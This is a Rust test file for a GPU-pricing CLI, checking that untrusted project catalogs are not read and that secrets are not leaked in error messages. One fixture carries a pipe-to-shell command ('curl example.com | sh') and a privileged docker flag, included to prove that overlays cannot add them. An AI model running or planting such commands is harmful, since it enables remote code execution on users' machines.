//! Config files of a working directory: settings that are always read, and settings that need trust.

use std::fs;
use std::path::Path;

use tempfile::TempDir;

use crate::support::{Sky, sky_line, validate};

/// An AWS machine with an impossible price.
const CHEAP: &str = r#"
[[price]]
provider = "aws"
offer = "p5.48xlarge"
capacity_type = "on-demand"
source = "a stranger"
as_of = "2026-11-01"
usd_per_hour = { us-east-1 = 0.01 }
"#;

const SECRET: &str = "machine example.com login me password hunter2";

/// A project with files, and a separate home folder.
struct Project {
    folder: TempDir,
    home: TempDir,
}

impl Project {
    fn new(files: &[(&str, &str)]) -> Self {
        let project = Self {
            folder: tempfile::tempdir().expect("a folder"),
            home: tempfile::tempdir().expect("a folder"),
        };
        for (name, text) in files {
            project.write(name, text);
        }
        project
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.path().join(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(path, text).expect("a file");
    }

    fn path(&self) -> &Path {
        self.folder.path()
    }

    fn sky(&self, line: &str) -> Sky {
        sky_line(line)
            .folder(self.path())
            .env("HOME", self.home.path())
            .env("XDG_CONFIG_HOME", self.home.path().join("config"))
            .env("XDG_DATA_HOME", self.home.path().join("data"))
    }
}

fn with_catalog() -> Project {
    Project::new(&[
        (
            "sky-accel.toml",
            "catalog = [\"ours\"]\nprovider = [\"aws\"]\n",
        ),
        ("ours/prices.toml", CHEAP),
    ])
}

#[test]
fn catalogs_of_a_folder_are_not_used_before_they_are_trusted() {
    let project = with_catalog();
    for line in [
        "resolve H100:x8",
        "list",
        "plan H100:x8 --to docker",
        "catalog diff",
    ] {
        let run = project.sky(line).run().expect_code(6);
        assert_eq!(run.stdout, "", "{line}");
        assert!(
            run.stderr.contains("you have not trusted them"),
            "{}",
            run.stderr
        );
        assert!(
            run.stderr.contains("sky-accel config trust"),
            "{}",
            run.stderr
        );
    }
    // Commands that need no catalog work, and preferences alone are harmless.
    project.sky("config show").run().expect_code(0);
    project.sky("help resolve").run().expect_code(0);
    project
        .sky("resolve H100:x8 --no-config")
        .run()
        .expect_code(0);
}

#[test]
fn trust_lasts_until_anything_changes() {
    let project = with_catalog();
    let trusted = project.sky("config trust -o json").json();
    assert_eq!(trusted["results"][0]["trusted"], true);
    validate("config trust", &trusted);
    let price = |project: &Project| {
        let answer = project.sky("resolve H100:x8 -o json").json();
        answer["results"][0]["on_demand"]["usd_per_hour"].as_f64()
    };
    assert_eq!(price(&project), Some(0.01));
    project.write("ours/prices.toml", &CHEAP.replace("0.01", "0.02"));
    let run = project.sky("resolve H100:x8").run().expect_code(6);
    assert!(run.stderr.contains("they changed since"), "{}", run.stderr);
    project.sky("config trust").run().expect_code(0);
    assert_eq!(price(&project), Some(0.02));
    project.write("ours/more.toml", "");
    project.sky("resolve H100:x8").run().expect_code(6);
    project.sky("config trust").run().expect_code(0);
    project.sky("config trust --revoke").run().expect_code(0);
    project.sky("resolve H100:x8").run().expect_code(6);
}

#[test]
fn untrusted_catalogs_are_not_opened() {
    let project = Project::new(&[("sky-accel.toml", "catalog = [\"missing\", \"/dev/zero\"]\n")]);
    let run = project.sky("list").run().expect_code(6);
    assert!(
        run.stderr.contains("you have not trusted them"),
        "{}",
        run.stderr
    );
    for line in ["config show", "help list", "config trust --revoke"] {
        project.sky(line).run().expect_code(0);
    }
    let run = project.sky("config trust").run().expect_code(6);
    assert!(run.stderr.contains("missing"), "{}", run.stderr);
    // Trust ends with the file, even without catalogs in it.
    let project = with_catalog();
    project.sky("config trust").run().expect_code(0);
    project.write("sky-accel.toml", "");
    project.sky("config trust --revoke").run().expect_code(0);
    project.write(
        "sky-accel.toml",
        "catalog = [\"ours\"]\nprovider = [\"aws\"]\n",
    );
    project.sky("list").run().expect_code(6);
}

#[cfg(unix)]
#[test]
fn a_catalog_that_others_may_write_is_not_trusted() {
    use std::os::unix::fs::PermissionsExt as _;

    let project = with_catalog();
    let file = project.path().join("ours/prices.toml");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o666)).expect("a mode");
    let run = project.sky("config trust").run().expect_code(6);
    assert!(
        run.stderr.contains("other users may write"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_list_of_trusted_files_that_cannot_be_read_is_kept() {
    let project = with_catalog();
    let list = project.home.path().join("data/sky-accel/trusted.json");
    fs::create_dir_all(list.parent().expect("a folder")).expect("a folder");
    fs::write(&list, "[{").expect("a file");
    project.sky("config trust").run().expect_code(2);
    assert_eq!(fs::read_to_string(&list).expect("a file"), "[{");
}

#[test]
fn an_answer_names_its_overlays_and_what_they_changed() {
    let project = with_catalog();
    let line = "--no-config resolve H100:x8 --provider aws --catalog ours";
    let answer = project.sky(&format!("{line} -o json")).json();
    assert_eq!(answer["catalog"]["overlays"][0], "ours/prices.toml");
    let overridden = answer["catalog"]["overridden"].to_string();
    assert!(
        overridden.contains("p5.48xlarge") && overridden.contains("0.01"),
        "{overridden}"
    );
    let notes = answer["notes"].to_string();
    assert!(notes.contains("overlay"), "{notes}");
    let run = project.sky(line).run().expect_code(0);
    assert!(
        run.stderr.contains("with the overlay ours/prices.toml"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr
            .contains("overlays changed data used for these results"),
        "{}",
        run.stderr
    );
    // An unaffected answer names the overlay, but reports no overridden facts.
    let other = "--no-config resolve L4 --provider aws --catalog ours -o json";
    let answer = project.sky(other).json();
    assert_eq!(answer["catalog"]["overlays"][0], "ours/prices.toml");
    assert!(answer["catalog"].get("overridden").is_none());
}

#[test]
fn a_price_in_a_region_without_the_machine_has_no_effect_and_a_note() {
    let price = |region: &str| {
        format!(
            "[[price]]\nprovider = 'aws'\noffer = 'p5.48xlarge'\ncapacity_type = 'on-demand'\nkind = 'contract'\n\
             usd_per_hour = {{ {region} = 20.0 }}\nsource = 'our contract'\nas_of = '2026-11-01'\n"
        )
    };
    let (wrong, right) = (price("us-esat-1"), price("us-east-1"));
    let project = Project::new(&[("wrong.toml", &wrong[..]), ("right.toml", &right[..])]);
    let line = "--no-config resolve H100:x8 --provider aws -o json --catalog";
    let answer = project.sky(&format!("{line} wrong.toml")).json();
    assert_ne!(answer["results"][0]["on_demand"]["usd_per_hour"], 20.0);
    let mut notes = answer["notes"].as_array().expect("notes").iter();
    let note = notes.find(|note| note["code"] == "overlay-without-effect");
    assert_eq!(
        note.expect("a note")["message"],
        "a price of an overlay has no effect: aws p5.48xlarge is not sold in us-esat-1 (did you mean us-east-1?)"
    );
    let answer = project.sky(&format!("{line} right.toml")).json();
    assert_eq!(answer["results"][0]["on_demand"]["usd_per_hour"], 20.0);
}

#[test]
fn no_secret_of_another_file_is_quoted() {
    let project = Project::new(&[("secrets/.netrc", SECRET), ("secrets/key.toml", SECRET)]);
    for name in ["secrets/.netrc", "secrets/key.toml"] {
        let path = project.path().join(name);
        let work = Project::new(&[(
            "sky-accel.toml",
            &format!("catalog = ['{}']\n", path.display()),
        )]);
        // Checked before and after trusting the file.
        for trusts in [false, true] {
            if trusts {
                work.sky("config trust").run().expect_code(0);
            }
            for line in ["list", "list -o json", "catalog verify", "catalog diff"] {
                let run = work.sky(line).run().expect_code(6);
                assert!(!run.stderr.contains("hunter2"), "{line}: {}", run.stderr);
                assert!(
                    !run.stderr.contains("example.com"),
                    "{line}: {}",
                    run.stderr
                );
            }
        }
    }
    // An error in a file that the user named is quoted.
    let run = project
        .sky("list --catalog secrets/key.toml")
        .run()
        .expect_code(6);
    assert!(run.stderr.contains("key.toml:1:"), "{}", run.stderr);
}

#[cfg(unix)]
#[test]
fn project_file_of_another_user_is_ignored_with_a_note() {
    use std::os::unix::fs::{PermissionsExt as _, symlink};

    let secret = Project::new(&[("secret", SECRET)]);
    let linked = Project::new(&[]);
    symlink(
        secret.path().join("secret"),
        linked.path().join("sky-accel.toml"),
    )
    .expect("a link");
    let run = linked
        .sky("resolve H100:x8 --provider aws")
        .run()
        .expect_code(0);
    assert!(
        run.stderr
            .contains("sky-accel.toml is ignored: it is a link"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("hunter2"), "{}", run.stderr);

    let open = Project::new(&[("sky-accel.toml", "provider = [\"verda\"]\n")]);
    let file = open.path().join("sky-accel.toml");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o666)).expect("a mode");
    let run = open.sky("resolve H100:x8 -o names").run().expect_code(0);
    assert!(run.stdout.contains("p5.48xlarge"), "{}", run.stdout);
    assert!(
        run.stderr.contains("other users may write to it"),
        "{}",
        run.stderr
    );
}

#[cfg(unix)]
#[test]
fn pipe_is_not_a_catalog() {
    let project = Project::new(&[("sky-accel.toml", "catalog = [\"pipe\"]\n")]);
    let pipe = project.path().join("pipe");
    let made = std::process::Command::new("mkfifo").arg(&pipe).status();
    if !made.is_ok_and(|status| status.success()) {
        return;
    }
    // Untrusted files are not opened.
    project.sky("list").run().expect_code(6);
    for line in ["config trust", "list --no-config --catalog pipe"] {
        let run = project.sky(line).run().expect_code(6);
        assert!(
            run.stderr.contains("not a regular file"),
            "{line}: {}",
            run.stderr
        );
    }
}

#[test]
fn overlay_cannot_add_commands() {
    let sdk = r#"
[[sdk]]
id = "cuda"
list_command = "curl example.com | sh"
source = "a stranger"
as_of = "2026-11-01"
"#;
    let project = Project::new(&[
        ("evil.toml", sdk),
        (
            "docker.toml",
            &sdk.replace(
                "list_command = \"curl example.com | sh\"",
                "docker = [\"--privileged\"]",
            ),
        ),
        (
            // An empty `docker` list is rejected too.
            "none.toml",
            &sdk.replace("list_command = \"curl example.com | sh\"", "docker = []"),
        ),
    ]);
    for file in ["evil.toml", "docker.toml", "none.toml"] {
        let run = project
            .sky(&format!("plan H100 --to docker --catalog {file}"))
            .run()
            .expect_code(6);
        assert!(run.stderr.contains("cannot set commands"), "{}", run.stderr);
        assert_eq!(run.stdout, "");
    }
}

#[test]
fn every_table_of_an_overlay_is_compared() {
    let overlay = r#"
[[sdk]]
id = "elsewhere"
kubernetes = "example.com/gpu"
source = "a stranger"
as_of = "2026-11-01"

[[quota]]
provider = "aws"
families = ["zz"]
on_demand = "L-00000001"
spot = "L-00000002"
source = "a stranger"
as_of = "2026-11-01"

[[name]]
default = "L4"
names.common = ["the small one"]
"#;
    let project = Project::new(&[("over.toml", overlay)]);
    let run = project.sky("catalog diff over.toml").run().expect_code(0);
    for words in ["sdk elsewhere", "quota aws zz", "the small one"] {
        assert!(run.stdout.contains(words), "{words}: {}", run.stdout);
    }
}
